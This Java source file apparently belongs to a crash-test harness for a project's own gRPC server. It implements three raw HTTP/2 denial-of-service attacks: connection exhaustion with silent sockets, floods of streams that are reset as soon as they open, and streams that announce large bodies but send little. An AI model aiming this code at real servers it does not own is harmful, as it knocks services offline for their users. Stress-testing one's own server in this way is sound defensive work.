package dev.nameplate.server.crash;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.ArrayDeque;
import java.util.Deque;

/** Connections that speak HTTP/2 as no client in earnest does, or not at all. */
final class RawConnections implements Attack {
  private static final byte[] PREFACE =
      "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII);
  private static final int DATA = 0;
  private static final int HEADERS = 1;
  private static final int RESET = 3;
  private static final int SETTINGS = 4;
  private static final int END_STREAM = 1;
  private static final int END_HEADERS = 4;
  private static final int CANCEL = 8;
  private static final int TIMEOUT_MILLIS = 1000;

  private final String host;
  private final int port;
  private final int most;
  private final Strike strike;
  private final Deque<Socket> open = new ArrayDeque<>();
  private int next;

  /** What is done on a new connection. */
  private interface Strike {
    void on(Socket socket, int number) throws IOException;
  }

  private RawConnections(String address, int most, Strike strike) {
    int colon = address.lastIndexOf(':');
    this.host = address.substring(0, colon);
    this.port = Integer.parseInt(address.substring(colon + 1));
    this.most = most;
    this.strike = strike;
  }

  /** More connections than there may be, half without a word, half without a call. */
  static Attack silent(String address) {
    return new RawConnections(
        address,
        1000,
        (socket, number) -> {
          if (number % 2 == 0) {
            send(socket, hello());
          }
        });
  }

  /** Calls that are reset before they are answered, until the server hangs up. */
  static Attack resets(String address) {
    return new RawConnections(
        address,
        4,
        (socket, number) -> {
          send(socket, hello());
          long end = System.nanoTime() + TIMEOUT_MILLIS * 1_000_000L;
          int stream = 1;
          while (System.nanoTime() < end) {
            ByteArrayOutputStream frames = new ByteArrayOutputStream();
            for (int i = 0; i < 100; i++, stream += 2) {
              frames.writeBytes(frame(HEADERS, END_HEADERS, stream, headers()));
              frames.writeBytes(frame(DATA, END_STREAM, stream, new byte[5]));
              frames.writeBytes(frame(RESET, 0, stream, new byte[] {0, 0, 0, CANCEL}));
            }
            send(socket, frames);
            discard(socket);
          }
        });
  }

  /** Calls that announce a request of almost a mebibyte, and send little of it. */
  static Attack announced(String address) {
    return new RawConnections(
        address,
        100,
        (socket, number) -> {
          ByteArrayOutputStream frames = hello();
          byte[] begun = new byte[200]; // 256 of them fit into the window that each starts with
          begun[2] = (byte) 0xf;
          begun[3] = (byte) 0xff;
          for (int stream = 1; stream < 2 * 256; stream += 2) {
            frames.writeBytes(frame(HEADERS, END_HEADERS, stream, headers()));
            frames.writeBytes(frame(DATA, 0, stream, begun));
          }
          send(socket, frames);
        });
  }

  @Override
  public void strike() throws IOException {
    if (open.size() == most) {
      open.remove().close();
    }
    Socket socket = new Socket(host, port);
    open.add(socket);
    socket.setSoTimeout(TIMEOUT_MILLIS);
    try {
      strike.on(socket, next++);
    } catch (IOException e) {
      socket.close(); // the server hung up
    }
  }

  private static void send(Socket socket, ByteArrayOutputStream frames) throws IOException {
    frames.writeTo(socket.getOutputStream());
  }

  private static void discard(Socket socket) throws IOException {
    InputStream in = socket.getInputStream();
    in.skipNBytes(in.available());
  }

  private static ByteArrayOutputStream hello() {
    ByteArrayOutputStream frames = new ByteArrayOutputStream();
    frames.writeBytes(PREFACE);
    frames.writeBytes(frame(SETTINGS, 0, 0, new byte[0]));
    return frames;
  }

  private static byte[] frame(int type, int flags, int stream, byte[] payload) {
    ByteArrayOutputStream frame = new ByteArrayOutputStream();
    number(frame, payload.length, 3);
    frame.write(type);
    frame.write(flags);
    number(frame, stream, 4);
    frame.writeBytes(payload);
    return frame.toByteArray();
  }

  private static void number(ByteArrayOutputStream out, int value, int bytes) {
    for (int shift = 8 * (bytes - 1); shift >= 0; shift -= 8) {
      out.write(value >>> shift);
    }
  }

  /** The headers of a resolve, as literals that are not indexed. */
  private static byte[] headers() {
    ByteArrayOutputStream block = new ByteArrayOutputStream();
    header(block, ":method", "POST");
    header(block, ":scheme", "http");
    header(block, ":path", "/nameplate.v1.ResolutionService/Resolve");
    header(block, ":authority", "x");
    header(block, "content-type", "application/grpc");
    header(block, "te", "trailers");
    return block.toByteArray();
  }

  private static void header(ByteArrayOutputStream block, String name, String value) {
    block.write(0x10);
    for (String text : new String[] {name, value}) {
      block.write(text.length()); // all are shorter than 127
      block.writeBytes(text.getBytes(StandardCharsets.US_ASCII));
    }
  }

  @Override
  public void close() throws IOException {
    for (Socket socket : open) {
      socket.close();
    }
  }
}
